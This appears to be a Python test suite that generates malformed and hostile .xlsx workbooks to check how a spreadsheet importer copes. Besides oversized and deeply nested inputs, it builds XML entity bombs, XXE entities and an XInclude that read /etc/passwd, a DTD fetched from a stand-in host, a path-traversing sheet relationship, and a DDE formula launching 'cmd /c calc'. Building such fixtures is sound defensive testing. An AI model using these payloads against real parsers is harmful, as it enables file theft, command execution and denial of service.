"""Workbooks (.xlsx) whose XML is hostile, or only unusual."""

from collections.abc import Callable, Iterable
from pathlib import Path
from random import Random

from tests.hostile.packing import (
    HEADER,
    MEGABYTE,
    SHEET,
    STRINGS,
    STYLES,
    TABLE,
    megabytes,
    row,
    strings,
    text,
    workbook,
)
from tests.hostile.registry import hostile
from tests.spreadsheets.workbook_files import MAIN, OFFICE, PACKAGE

GRID_ROWS, GRID_COLUMNS = 1_048_576, 16_384
DAMAGED = "damaged"
LONGEST = 32_767


def numbered(template: str, numbers: Iterable[int], every: int = 2_000) -> Iterable[bytes]:
    """The template with each number put for {0}, in blocks."""
    block = []
    for number in numbers:
        block.append(template.replace("{0}", str(number)))
        if len(block) == every:
            yield "".join(block).encode()
            block = []
    yield "".join(block).encode()


# What may be asked of memory.


@hostile("one cell at A1 and one at XFD1048576", says="stray value")
def two_far_cells(path: Path) -> None:
    far = text("XFD1048576", "x")
    workbook(path, f'<row r="1">{text("A1", "x")}</row><row r="1048576">{far}</row>')


@hostile("a table and one stray cell at XFD1048576", says="stray value")
def stray_cell(path: Path) -> None:
    workbook(path, f'{TABLE}<row r="1048576">{text("XFD1048576", "x")}</row>')


@hostile("a sheet that says it fills the grid, and does not", lines=1)
def dimension_lies(path: Path) -> None:
    workbook(path, TABLE, before='<dimension ref="A1:XFD1048576"/>')


@hostile("shared strings: 4,294,967,295 of them, as it says", says="memory")
def unique_count(path: Path) -> None:
    counts = ' uniqueCount="4294967295" count="4294967295"'
    workbook(
        path,
        '<row r="1"><c r="A1" t="s"><v>0</v></c></row>',
        {STRINGS: strings("x", counts=counts)},
    )


@hostile("one string of 32,000 letters in 200,000 cells", says="memory")
def long_string_often(path: Path) -> None:
    cells = numbered('<row r="{0}"><c r="A{0}" t="s"><v>0</v></c></row>', range(1, 200_001))
    workbook(path, b"".join(cells), {STRINGS: strings("x" * 32_000)})


@hostile("one article of 32,000 letters in 10,000 lines", lines=10_000, heavy=True)
def long_article_often(path: Path) -> None:
    _two_strings_often(path, "x" * 32_000, 10_000)


@hostile("an article that Unicode makes 18 times longer, in 4,000 lines", lines=4_000)
def article_that_grows(path: Path) -> None:
    _two_strings_often(path, "\ufdfa" * 32_000, 4_000)


@hostile("remarks with a rare letter: four bytes each in memory", lines=10_000, heavy=True)
def wide_letters(path: Path) -> None:
    _remark_often(path, "x" * 32_000 + "\U0001f600", 10_000)


@hostile("remarks of control characters: six bytes each on the way", lines=4_000)
def control_characters(path: Path) -> None:
    _remark_often(path, "_x0001_" * 8_000, 4_000)


def _two_strings_often(path: Path, article: str, lines: int) -> None:
    line = '<row r="{0}"><c r="A{0}" t="s"><v>0</v></c><c r="B{0}" t="s"><v>1</v></c></row>'
    rows = b"".join([HEADER.encode(), *numbered(line, range(2, lines + 2))])
    workbook(path, rows, {STRINGS: strings("BOSCH", article)})


def _remark_often(path: Path, remark: str, lines: int) -> None:
    line = (
        '<row r="{0}"><c r="A{0}" t="s"><v>0</v></c><c r="B{0}"><v>{0}</v></c>'
        '<c r="C{0}" t="s"><v>1</v></c></row>'
    )
    rows = b"".join([HEADER.encode(), *numbered(line, range(2, lines + 2))])
    workbook(path, rows, {STRINGS: strings("BOSCH", remark)})


@hostile("80 lines of 16,000 cells of 60 letters, a rare one in each", lines=80, heavy=True)
def long_wide_lines(path: Path) -> None:
    random = Random(1)
    texts = [f"{'x' * 55}{index}\U0001f600" for index in range(1_000)]

    def line(number: int) -> bytes:
        cells = "".join(f'<c t="s"><v>{random.randrange(1_000)}</v></c>' for _ in range(16_000))
        return f'<row r="{number}">{cells}</row>'.encode()

    rows = [row(1, "Brand", "Article").encode(), *map(line, range(2, 82))]
    workbook(path, rows, {STRINGS: strings(*texts)})


@hostile("one shared string of 1.4 GB", says="Unpacked", heavy=True)
def giant_string(path: Path) -> None:
    _with_strings(path, megabytes(1400, b"x"))


@hostile("one shared string of 900 MB that shrinks only 150 times", says="memory", heavy=True)
def giant_string_below_the_limits(path: Path) -> None:
    _with_strings(path, _shrinking(900))


@hostile("a cell of 900 MB that shrinks only 150 times", says="memory", heavy=True)
def giant_cell_below_the_limits(path: Path) -> None:
    def rows() -> Iterable[bytes]:
        yield b'<row r="1"><c r="A1" t="str"><v>'
        yield from _shrinking(900)
        yield b"</v></c></row>"

    workbook(path, rows())


def _shrinking(count: int) -> Iterable[bytes]:
    """Megabytes that deflate shrinks less than the limit for bombs."""
    random = Random(1)
    for _ in range(count):
        noise = random.randbytes(3_500).hex().encode()
        yield noise + b"x" * (MEGABYTE - len(noise))


def _with_strings(path: Path, content: Iterable[bytes]) -> None:
    def stream() -> Iterable[bytes]:
        yield f"<sst {MAIN}><si><t>".encode()
        yield from content
        yield b"</t></si></sst>"

    workbook(path, '<row r="1"><c r="A1" t="s"><v>0</v></c></row>', {STRINGS: stream()})


@hostile("1,048,576 × 26 cells, all full", says="memory", heavy=True)
def full_sheet(path: Path) -> None:
    cells = "<c><v>{0}</v></c>" * 26
    workbook(path, [HEADER.encode(), *numbered(f"<row>{cells}</row>", range(2, GRID_ROWS + 1))])


@hostile("1,048,576 × 7 cells, all full", lines=GRID_ROWS - 1, heavy=True)
def full_narrow_sheet(path: Path) -> None:
    cells = "<c><v>{0}</v></c>" * 7
    workbook(path, [HEADER.encode(), *numbered(f"<row>{cells}</row>", range(2, GRID_ROWS + 1))])


# References.


@hostile("a reference beyond the grid: ZZZZZZZ99999999999", says=DAMAGED)
def reference_beyond(path: Path) -> None:
    workbook(path, f"{TABLE}<row r='3'>{text('ZZZZZZZ99999999999', 'x')}</row>")


@hostile("50,000 columns", says="50,000 columns")
def many_columns(path: Path) -> None:
    cells = '<c t="inlineStr"><is><t>x</t></is></c>' * 50_000
    workbook(path, f'<row r="1">{cells}</row>')


@hostile("16,384 columns with one heading of 5,000 letters", says="sheet “S”, row 1")
def equal_long_headings(path: Path) -> None:
    _wide_table(path, "h" * 5_000, GRID_COLUMNS - 2)


@hostile("16,000 columns with one heading", lines=1)
def equal_headings(path: Path) -> None:
    _wide_table(path, "Remark", 16_000)


@hostile("16,384 columns: with those of the result too many", says="16,395")
def one_column_too_many(path: Path) -> None:
    _wide_table(path, "Remark", GRID_COLUMNS - 2)


def _wide_table(path: Path, heading: str, count: int) -> None:
    header = '<c t="s"><v>0</v></c><c t="s"><v>1</v></c>' + '<c t="s"><v>2</v></c>' * count
    cells = '<c t="s"><v>3</v></c><c t="s"><v>4</v></c>' + "<c><v>1</v></c>" * count
    workbook(
        path,
        f"<row>{header}</row><row>{cells}</row>",
        {STRINGS: strings("Brand", "Article", heading, "BOSCH", "0986452041")},
    )


for name, reference in {
    "row 0": "A0",
    "a negative row": "A-5",
    "a row of 2^32": "A4294967296",
    "letters only": "AAAA",
    "digits only": "77",
    "nothing": "",
}.items():
    hostile(f"a cell's reference: {name}", says=DAMAGED)(
        lambda path, reference=reference: workbook(
            path, f'{TABLE}<row r="3">{text(reference, "x")}</row>'
        )
    )


@hostile("row numbers: negative, huge, backwards", says=DAMAGED)
def row_numbers(path: Path) -> None:
    cells = '<c t="inlineStr"><is><t>x</t></is></c>'
    workbook(path, TABLE + "".join(f'<row r="{n}">{cells}</row>' for n in (-1, 2**40, 5, 3)))


@hostile("rows from the bottom up", lines=1)
def rows_backwards(path: Path) -> None:
    workbook(path, row(2, "BOSCH", "0986452041", "x") + HEADER)


# Much of nothing.


@hostile("1,048,574 empty rows with a format", lines=1, heavy=True)
def empty_rows(path: Path) -> None:
    rows = numbered('<row r="{0}" s="1" customFormat="1" ht="15"/>', range(3, GRID_ROWS + 1))
    workbook(path, [TABLE.encode(), *rows])


@hostile("1,048,574 rows of empty cells with a format", lines=1, heavy=True)
def empty_cells(path: Path) -> None:
    rows = numbered(
        '<row r="{0}"><c r="A{0}" s="1"/><c r="B{0}" s="1"/></row>', range(3, GRID_ROWS + 1)
    )
    workbook(path, [TABLE.encode(), *rows])


@hostile("a million empty rows, then one more line", lines=1_000_001, heavy=True)
def empty_rows_and_a_line(path: Path) -> None:
    workbook(path, TABLE + row(1_000_002, "BOSCH", "0986452041", "y"))


@hostile("nothing in any of 900 sheets", says="empty")
def empty_sheets(path: Path) -> None:
    sheets = range(1, 900)
    workbook(
        path,
        "",
        {
            "xl/workbook.xml": f'<workbook {MAIN} xmlns:r="{OFFICE}"><sheets>'
            + "".join(f'<sheet name="S{n}" sheetId="{n}" r:id="r1"/>' for n in sheets)
            + "</sheets></workbook>"
        },
    )


@hostile("no sheets at all", says="empty|damaged")
def no_sheets(path: Path) -> None:
    workbook(path, "", {"xl/workbook.xml": f"<workbook {MAIN}><sheets/></workbook>"})


# Entities and what else XML can do.


def _with_document_type(path: Path, declarations: str, value: str) -> None:
    sheet = (
        f"<!DOCTYPE worksheet {declarations}><worksheet {MAIN}><sheetData>"
        f"{HEADER}{row(2, 'BOSCH', '0986452041', value)}</sheetData></worksheet>"
    )
    workbook(path, "", {SHEET: sheet})


def laughs(levels: int = 10) -> str:
    entities = "".join(
        f'<!ENTITY e{level} "{f"&e{level - 1};" * 10}">' for level in range(1, levels)
    )
    return f'[<!ENTITY e0 "ha">{entities}]'


@hostile("XML: a billion laughs", says=DAMAGED)
def billion_laughs(path: Path) -> None:
    _with_document_type(path, laughs(), "&e9;")


@hostile("XML: quadratic blow-up", says=DAMAGED)
def quadratic_blow_up(path: Path) -> None:
    _with_document_type(path, f'[<!ENTITY e "{"x" * 100_000}">]', "&e;" * 100_000)


@hostile("XML: the file /etc/passwd as an entity", says=DAMAGED)
def entity_of_a_file(path: Path) -> None:
    _with_document_type(path, '[<!ENTITY e SYSTEM "file:///etc/passwd">]', "&e;")


@hostile("XML: a page of the web as an entity", says=DAMAGED)
def entity_of_the_web(path: Path) -> None:
    _with_document_type(path, '[<!ENTITY e SYSTEM "http://192.0.2.1/">]', "&e;")


@hostile("XML: a DTD on the web", lines=1)
def document_type_of_the_web(path: Path) -> None:
    _with_document_type(path, 'SYSTEM "http://192.0.2.1/evil.dtd"', "x")


@hostile("XML: XInclude of /etc/passwd", lines=1)
def xinclude(path: Path) -> None:
    include = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/etc/passwd"/>'
    workbook(path, HEADER + row(2, "BOSCH", "0986452041", include))


@hostile("XML: a billion laughs in the styles", says=DAMAGED)
def laughs_in_styles(path: Path) -> None:
    _with_styles(path, f"<!DOCTYPE styleSheet {laughs()}>", "<x>&e9;</x>")


@hostile("XML: /etc/passwd in the styles", says=DAMAGED)
def file_in_styles(path: Path) -> None:
    declaration = '<!DOCTYPE styleSheet [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    _with_styles(path, declaration, "<x>&e;</x>")


@hostile("XML: a million levels in the styles", lines=1)
def deep_styles(path: Path) -> None:
    _with_styles(path, "", "<x>" * 1_000_000 + "</x>" * 1_000_000)


@hostile("XML: a million levels in the sheet", lines=1)
def deep_sheet(path: Path) -> None:
    workbook(path, TABLE + "<x>" * 1_000_000 + "</x>" * 1_000_000)


@hostile("XML: a million levels in a cell", lines=1)
def deep_cell(path: Path) -> None:
    deep = "<r>" * 1_000_000 + "</r>" * 1_000_000
    workbook(path, f'{TABLE}<row r="3"><c r="A3" t="inlineStr"><is>{deep}</is></c></row>')


def _with_styles(path: Path, before: str, content: str) -> None:
    formats = '<numFmts><numFmt numFmtId="164" formatCode="0000000000"/></numFmts>'
    cells = '<cellXfs><xf numFmtId="0"/><xf numFmtId="164"/></cellXfs>'
    styles = f"{before}<styleSheet {MAIN}>{formats}{cells}{content}</styleSheet>"
    workbook(path, TABLE, {STYLES: styles})


for place, part in {
    "workbook": "xl/workbook.xml",
    "relations": "xl/_rels/workbook.xml.rels",
}.items():
    hostile(f"XML: broken in the {place}", says=DAMAGED)(
        lambda path, part=part: workbook(path, TABLE, {part: f"<workbook {MAIN}><sheets><she"})
    )
hostile("XML: broken in the sheet", says="damaged.*“S”|“S”.*damaged")(
    lambda path: workbook(path, "", {SHEET: f"<worksheet {MAIN}><sheetData>{TABLE}<row><c"})
)
hostile("XML: not UTF-8", says="damaged|empty|not recognised")(
    lambda path: workbook(
        path, HEADER.encode() + row(2, "B", "1").encode().replace(b"B", b"\xff\xfe")
    )
)


# Cells.


@hostile("cells of 32,767 characters", lines=3)
def longest_cells(path: Path) -> None:
    rows = (row(n, "BOSCH", f"098645204{n}", "x" * LONGEST) for n in range(2, 5))
    workbook(path, HEADER + "".join(rows))


@hostile("a cell of 10 MB", says="sheet “S”, row 2")
def longer_cell(path: Path) -> None:
    workbook(path, HEADER + row(2, "BOSCH", "0986452041", "x" * 10 * MEGABYTE))


for kind, cell in {
    "a shared string that is not there": '<c r="C2" t="s"><v>4294967295</v></c>',
    "a shared string of a negative number": '<c r="C2" t="s"><v>-1</v></c>',
    "a style that is not there": '<c r="C2" s="4294967295"><v>1</v></c>',
    "1e999": '<c r="C2"><v>1e999</v></c>',
    "not a number": '<c r="C2"><v>NaN</v></c>',
    "a number of 100,000 digits": f'<c r="C2"><v>{"9" * 100_000}</v></c>',
    "a date that is none": '<c r="C2" t="d"><v>9999-99-99T99:99:99</v></c>',
    "a type that is none": '<c r="C2" t="wurst"><v>1</v></c>',
    "an error value": '<c r="C2" t="e"><v>#REF!</v></c>',
    "a formula without a value": '<c r="C2"><f>1+1</f></c>',
    "a formula with DDE": "<c r=\"C2\"><f>cmd|'/c calc'!A0</f></c>",
    "a formula that shares itself with the grid": '<c r="C2"><f t="shared" ref="A1:XFD1048576" '
    'si="0">A1</f></c>',
}.items():
    refused = {
        "a shared string of a negative number",
        "a shared string that is not there",
        "a type that is none",
    }
    expected = {"says": DAMAGED} if kind in refused else {"lines": 1}
    hostile(f"a cell: {kind}", **expected)(
        lambda path, cell=cell: workbook(
            path,
            f'{HEADER}<row r="2">{text("A2", "BOSCH")}{text("B2", "0986452041")}{cell}</row>',
        )
    )


@hostile("dates: numbers far outside the calendar", says="sheet “S”, row 4")
def wild_dates(path: Path) -> None:
    styles = (
        f'<styleSheet {MAIN}><cellXfs><xf numFmtId="0"/><xf numFmtId="14"/></cellXfs></styleSheet>'
    )
    values = ("-1", "1e300", "-1e300", "2958466", "0", "60")
    rows = "".join(
        f'<row r="{n}">{text(f"A{n}", "BOSCH")}{text(f"B{n}", "1")}'
        f'<c r="C{n}" s="1"><v>{v}</v></c></row>'
        for n, v in enumerate(values, 2)
    )
    workbook(path, HEADER + rows, {STYLES: styles})


@hostile("merged cells: the whole grid, 100,000 times", lines=1)
def merged_grid(path: Path) -> None:
    merged = '<mergeCell ref="A1:XFD1048576"/>' * 100_000
    sheet = (
        f"<worksheet {MAIN}><sheetData>{TABLE}</sheetData><mergeCells>{merged}</mergeCells>"
        "</worksheet>"
    )
    workbook(path, "", {SHEET: sheet})


# What a workbook may refer to.


@hostile("a sheet that is said to be /etc/passwd", says="damaged|empty")
def sheet_elsewhere(path: Path) -> None:
    relations = (
        f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="r1" '
        f'Type="{OFFICE}/worksheet" Target="../../../../../../etc/passwd"/></Relationships>'
    )
    workbook(path, TABLE, {"xl/_rels/workbook.xml.rels": relations})


@hostile("links to outside, data connections, macros", ending=".xlsm", lines=1)
def links_and_macros(path: Path) -> None:
    link = (
        f'<externalLink {MAIN}><ddeLink xmlns:r="{OFFICE}" ddeService="cmd" ddeTopic="/c calc"/>'
        "</externalLink>"
    )
    relation = (
        f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="r1" '
        f'TargetMode="External" Type="{OFFICE}/externalLinkPath" '
        'Target="\\\\192.0.2.1\\share\\prices.xlsx"/></Relationships>'
    )
    connection = (
        f'<connections {MAIN}><connection id="1" type="1">'
        '<dbPr connection="ODBC;DSN=x"/></connection></connections>'
    )
    workbook(
        path,
        TABLE,
        {
            "xl/externalLinks/externalLink1.xml": link,
            "xl/externalLinks/_rels/externalLink1.xml.rels": relation,
            "xl/connections.xml": connection,
            "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(1000),
        },
    )


@hostile("formulas by openpyxl, without values", lines=2)
def formulas_without_values(path: Path) -> None:
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.worksheets[0]
    sheet.append(["Brand", "Article", "Sum"])
    sheet.append(["BOSCH", "0986452041", "=SUM(1,2)"])
    sheet.append(
        ["BOSCH", '=CONCATENATE("0986", "452041")', '=HYPERLINK("http://192.0.2.1/", "x")']
    )
    book.save(path)


def _columns_of_formulas(path: Path) -> None:
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.worksheets[0]
    sheet.append(["Brand", "Article"])
    for number in range(2, 5):
        sheet.append([f"=C{number}", f"=D{number}"])
    book.save(path)


hostile("brand and article are formulas without values", says="formulas")(_columns_of_formulas)

Maker = Callable[[Path], None]
